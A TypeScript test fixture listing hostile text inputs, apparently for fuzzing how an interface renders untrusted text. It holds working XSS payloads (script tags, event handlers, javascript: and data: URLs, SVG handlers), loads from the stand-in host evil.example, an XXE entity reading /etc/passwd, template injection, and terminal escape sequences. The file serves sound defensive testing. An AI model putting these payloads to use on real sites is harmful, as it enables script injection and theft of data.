/** A text that tries to be more than text. */
export interface Hostile {
  /** What it tries. */
  readonly name: string;
  /** The text. It calls `pwn()` where it gets to run, and asks for something of evil.example where it gets to load. */
  readonly text: string;
}

/** A word without a place to break it. */
const WORD = 100_000;

/** Texts as a hostile model, paper or person might write them: to be put wherever a text of foreign origin stands. */
export const HOSTILE: readonly Hostile[] = [
  { name: "a script", text: "<script>pwn(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>" },
  { name: "a broken script", text: "<scr<script>ipt>pwn(2)</scr</script>ipt><<script>pwn(3)//<</script>" },
  { name: "an event handler", text: `"><img src=x onerror=pwn(4)>` },
  {
    name: "handlers that need no click",
    text: "<details open ontoggle=pwn(5)><input autofocus onfocus=pwn(6)>",
  },
  {
    name: "a way out of an attribute",
    text: `" onmouseover="pwn(7)" autofocus onfocus="pwn(8)" style="position:fixed`,
  },
  { name: "a way out of a quoted attribute", text: "' onmouseover='pwn(9)' tabindex='0' onfocus='pwn(10)" },
  { name: "a javascript: address", text: "javascript:pwn(11)//" },
  { name: "a disguised javascript: address", text: "\u0001java\tscript\n:pwn(12)" },
  {
    name: "Markdown links and images",
    text:
      "[a](javascript:pwn(13)) ![b](https://evil.example/b.png) <javascript:pwn(14)> [c][d] [e](vbscript:pwn(15))\n\n" +
      "[d]: javascript:pwn(16)\n[f]:javascript:pwn(17) 'g'\n\n[h](data:text/html;base64,PHNjcmlwdD5wd24oMTgpPC9zY3JpcHQ+)",
  },
  {
    name: "an SVG with handlers",
    text:
      "<svg/onload=pwn(19)><animate onbegin=pwn(20) attributeName=x dur=1s><foreignObject><body onload=pwn(21)>" +
      "<iframe srcdoc='<script>parent.pwn(22)</script>'></iframe></foreignObject></svg>",
  },
  {
    name: "an SVG with an address",
    text:
      `<svg><use href="data:image/svg+xml,<svg id='x' onload='pwn(23)'/>#x"/><a xlink:href="javascript:pwn(24)"><text>x</text></a></svg>`,
  },
  { name: "a data: page", text: "data:text/html,<script>pwn(25)</script>" },
  {
    name: "frames and forms",
    text:
      "<iframe src=//evil.example></iframe><object data=//evil.example></object><embed src=//evil.example><form action=//evil.example><button>x",
  },
  {
    name: "loads by head elements",
    text:
      "<base href=//evil.example/><link rel=stylesheet href=//evil.example/c.css><meta http-equiv=refresh content='0;url=//evil.example/'>",
  },
  {
    name: "closes what is around it",
    text:
      "</span></td></tr></tbody></table></div></div></details></summary></section></main></svg></text></title><footer>",
  },
  { name: "a table's end", text: "a | b\n---|---\n`|` \\| <td></table><h1>out" },
  {
    name: "hides what follows",
    text: "</summary></details><style>*{display:none!important}</style><plaintext><textarea><noscript>",
  },
  {
    name: "a comment and CDATA",
    text:
      "<!-- --!> <![CDATA[ ]]> <?xml version='1.0'?> <!doctype x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]> &e; -->",
  },
  {
    name: "CSS in an attribute",
    text: `red;position:fixed;inset:0;background:url(//evil.example/i.png);z-index:9" x="`,
  },
  {
    name: "fences",
    text: "````\n```html\n<script>pwn(26)</script>\n~~~\n    <img src=x onerror=pwn(27)>\n# heading\n> quote",
  },
  {
    name: "code spans",
    text:
      "`</code><script>pwn(28)</script>` ``<img src=x onerror=pwn(29)>`` **<b onclick=pwn(30)>** *<i>* \\<u\\>",
  },
  {
    name: "TeX",
    text:
      "$\\href{javascript:pwn(31)}{x}$ $$\\require{html}\\style{position:fixed}{y}$$ \\(\\unicode{x}\\) costs $5 and $6",
  },
  {
    name: "entities",
    text:
      "&lt;script&gt;pwn(32)&lt;/script&gt; &#60;img src=x onerror=pwn(33)&#62; &#x3c;b&#x3e; &amp;lt; &NotAnEntity; &",
  },
  {
    name: "a template",
    text:
      "{{ constructor.constructor('pwn(34)')() }} ${pwn(35)} <%= pwn(36) %> {% raw %} __proto__ constructor",
  },
  {
    name: "direction overrides",
    text: "\u202Eevil\u202C \u2066left\u2067right\u2068first\u2069 \u200Fmark\u200E \u061C \u202Dend",
  },
  { name: "right to left", text: "שלום עולם (2026) – العلاج الجديد لابيضاض الدم [H3] 12 %" },
  { name: "zero-width characters", text: `zero${"\u200B\u200C\u200D\u2060\uFEFF".repeat(300)}width` },
  {
    name: "combining marks",
    text: `Z${"\u0300\u0316\u0321\u0334\u0489".repeat(300)}algo ${"a\u0301\u0302\u0303".repeat(60)}`,
  },
  {
    name: "null bytes and control characters",
    text:
      "nul\u0000l \u0007bell \u0008back \u000bvertical \u000cform \u007fdel \u0085next \u2028line\u2029paragraph",
  },
  { name: "halves of surrogate pairs", text: "\ud800 half \udc00 \ude00\ud83d pair \uffff\ufffe \ufdd0" },
  {
    name: "commands to a terminal",
    text:
      "\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b[2J \u009b31m \u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\ \u001b[1A",
  },
  { name: "line ends", text: "one\rtwo\r\nthree\n\n\n\nfour\tfive\u000b" },
  { name: "emoji", text: "👩‍🔬👨‍👩‍👧‍👦🏳️‍🌈🏴󠁧󠁢󠁥󠁮󠁧󠁿".repeat(40) },
  { name: "Chinese without a space", text: "白血病的新疗法：联合用药与单药的比较研究。".repeat(60) },
  { name: "a word of 100 kB", text: "A".repeat(WORD) },
  { name: "a word of 100 kB that escaping makes larger", text: "<&'\">".repeat(WORD / 5) },
  { name: "an address of 10 kB", text: `https://example.org/${"a/b?c=%20&d=".repeat(900)}` },
  { name: "100 kB of lines", text: "line\n".repeat(WORD / 5) },
  { name: "nothing", text: "" },
  { name: "white space", text: " \u00a0\u2003\t\n " },
  { name: "a web address with a handler in it", text: "https://ok.example/?q=\"onmouseover=pwn(37)' style=" },
];
